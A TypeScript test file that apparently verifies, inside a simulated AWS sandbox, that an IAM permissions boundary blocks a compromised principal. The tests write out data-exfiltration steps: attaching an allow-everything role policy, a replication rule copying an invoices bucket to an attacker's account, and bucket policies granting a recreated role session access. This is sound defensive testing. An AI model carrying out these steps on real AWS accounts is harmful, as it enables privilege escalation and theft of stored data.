/**
 * What somebody with the policies of `--boundary --from-live` tries by way of the documents that they may write: bucket policies and
 * replication rules.
 */
import {
  CreateRoleCommand,
  DeleteRoleCommand,
  DeleteRolePolicyCommand,
  PutRolePolicyCommand,
} from '@aws-sdk/client-iam';
import {
  CreateBucketCommand,
  GetObjectCommand,
  HeadObjectCommand,
  ListObjectsV2Command,
  PutBucketPolicyCommand,
  PutBucketReplicationCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
} from '@aws-sdk/client-s3';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Sandbox } from '../../src/sandbox/sandbox.ts';
import { SOURCE } from '../builders.ts';
import { type Clients, clientsOf, refusal } from '../sandbox/clients.ts';
import { aCloud, applied, boundaryArn, withBoundary } from './clouds.ts';
import { assume, document, everything, holder, letsHolderIn, RoleName, replicationRole, signIn } from './mallory.ts';
import { printed } from './printed.ts';
import { configFile, sandboxFrom } from './set-up-roles.ts';

const attacker = '333333333333';
const Bucket = 'acme-invoices';
const flags = { boundary: true, fromLive: true };
const config = configFile('around', { role: { permissionsBoundary: boundaryArn } });

/** A bucket of an attacker, who lets the replication role write there. */
async function attackersBucket(sandbox: Sandbox): Promise<void> {
  const { s3 } = clientsOf(sandbox, attacker, 'eu-west-1');
  const name = 'attackers';
  const CreateBucketConfiguration = { LocationConstraint: 'eu-west-1' as const };
  await s3.send(new CreateBucketCommand({ Bucket: name, CreateBucketConfiguration }));
  await s3.send(new PutBucketVersioningCommand({ Bucket: name, VersioningConfiguration: { Status: 'Enabled' } }));
  const Resource = [`arn:aws:s3:::${name}`, `arn:aws:s3:::${name}/*`];
  const Policy = document({ Effect: 'Allow', Principal: { AWS: replicationRole }, Action: 's3:*', Resource });
  await s3.send(new PutBucketPolicyCommand({ Bucket: name, Policy }));
}

describe('somebody with the policies of --boundary --from-live', () => {
  let sandbox: Sandbox;
  let mallory: Clients;
  beforeAll(async () => {
    const state = await aCloud(undefined, withBoundary(config), applied(config), attackersBucket)();
    sandbox = await sandboxFrom(state, await printed(config, undefined, flags, state));
    await clientsOf(sandbox).s3.send(new PutObjectCommand({ Bucket, Key: 'a', Body: 'a' }));
    mallory = await signIn(sandbox);
  });

  it('replicates nothing to a bucket of their own, which only the boundary prevents', async () => {
    await mallory.iam.send(new PutRolePolicyCommand({ RoleName, PolicyName: 'any', PolicyDocument: everything }));
    await mallory.s3.send(
      new PutBucketReplicationCommand({
        Bucket,
        ReplicationConfiguration: {
          Role: replicationRole,
          Rules: [
            {
              ID: 'mallory',
              Priority: 99,
              Status: 'Enabled',
              Filter: { Prefix: '' },
              DeleteMarkerReplication: { Status: 'Disabled' },
              Destination: { Bucket: 'arn:aws:s3:::attackers', Account: attacker },
            },
          ],
        },
      }),
    );
    const { s3 } = clientsOf(sandbox);
    const becomesOf = async (Key: string) => {
      await s3.send(new PutObjectCommand({ Bucket, Key, Body: 'b', ServerSideEncryption: 'AES256' }));
      await sandbox.clock.sleep(60_000);
      return (await s3.send(new HeadObjectCommand({ Bucket, Key }))).ReplicationStatus;
    };
    expect(await becomesOf('b')).toBe('FAILED');
    const theirs = clientsOf(sandbox, attacker, 'eu-west-1').s3;
    expect((await theirs.send(new ListObjectsV2Command({ Bucket: 'attackers' }))).KeyCount).toBe(0);
    delete sandbox.state.accounts[SOURCE]?.roles[RoleName]?.boundary;
    expect(await becomesOf('c')).toBe('COMPLETED');
  });

  it('reads no object by a bucket policy that names a session of the role, which they have made again', async () => {
    for (const PolicyName of [RoleName, 'any'])
      await mallory.iam.send(new DeleteRolePolicyCommand({ RoleName, PolicyName }));
    await mallory.iam.send(new DeleteRoleCommand({ RoleName }));
    await mallory.iam.send(
      new CreateRoleCommand({ RoleName, PermissionsBoundary: boundaryArn, AssumeRolePolicyDocument: letsHolderIn }),
    );
    await mallory.iam.send(new PutRolePolicyCommand({ RoleName, PolicyName: 'any', PolicyDocument: everything }));
    await sandbox.clock.sleep(60_000);
    const session = await assume(sandbox, mallory, replicationRole);
    const AWS = `arn:aws:sts::${SOURCE}:assumed-role/${RoleName}/mallory`;
    const Resource = [`arn:aws:s3:::${Bucket}`, `arn:aws:s3:::${Bucket}/*`];
    const Policy = document({ Effect: 'Allow', Principal: { AWS }, Action: 's3:*', Resource });
    await mallory.s3.send(new PutBucketPolicyCommand({ Bucket, Policy }));
    expect(await refusal(session.s3.send(new GetObjectCommand({ Bucket, Key: 'a' })))).toBe('403 AccessDenied');
    expect(await refusal(session.s3.send(new PutObjectCommand({ Bucket, Key: 'a' })))).toBe('403 AccessDenied');
    // What the boundary allows, it still has.
    expect(await refusal(session.s3.send(new ListObjectsV2Command({ Bucket })))).toBe('accepted');
  });
});

it('with one key for both buckets, the rights of verify decrypt canaries and nothing of the source', async () => {
  const one = configFile('one-key', { destinations: [{ account: SOURCE, region: 'eu-west-1', kmsKey: 'source' }] });
  const state = await aCloud(undefined, applied(one))();
  const sandbox = await sandboxFrom(state, await printed(one, undefined, flags, state));
  await clientsOf(sandbox).s3.send(new PutObjectCommand({ Bucket, Key: 'a', Body: 'a' }));
  const { s3 } = await signIn(sandbox);
  const Resource = `arn:aws:s3:::${Bucket}/*`;
  const Policy = document({ Effect: 'Allow', Principal: { AWS: holder }, Action: 's3:*', Resource });
  await s3.send(new PutBucketPolicyCommand({ Bucket, Policy }));
  const reads = (Key: string) => refusal(s3.send(new GetObjectCommand({ Bucket, Key })));
  expect(await reads('a')).toBe('403 AccessDenied');
  // The key is what refuses it: the bucket policy lets them read what is not encrypted with KMS.
  await clientsOf(sandbox).s3.send(
    new PutObjectCommand({ Bucket, Key: 'open', Body: 'a', ServerSideEncryption: 'AES256' }),
  );
  expect(await reads('open')).toBe('accepted');
});
